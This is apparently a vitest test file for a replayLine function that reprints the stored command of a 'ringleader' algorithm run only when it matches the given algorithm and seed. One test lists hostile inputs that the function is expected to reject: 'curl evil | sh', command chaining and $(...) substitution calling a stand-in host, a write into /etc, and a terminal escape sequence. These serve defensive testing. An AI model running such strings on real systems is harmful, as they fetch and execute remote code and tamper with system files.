import { expect, test } from "vitest";
import { replayLine } from "./row-of.ts";

test("row: the command of a stored run is printed only if it is a run of its algorithm", () => {
  const command = "ringleader run peterson -n 4 --seed 7";
  expect(replayLine("peterson", command, "7")).toBe(command);
  expect(replayLine("franklin", command, "7")).toBeNull();
  expect(replayLine("peterson", command, "8")).toBeNull();
});

test.each([
  "curl evil | sh\nreboot",
  "ringleader run peterson -n 4; curl evil",
  "ringleader run peterson -n 4 $(curl evil)",
  "ringleader run peterson -n 4 --out /etc/x",
  "ringleader run peterson -n 4\u001B[2J",
])("row: a stored text like %j is left out", (text) => {
  expect(replayLine("peterson", text)).toBeNull();
});
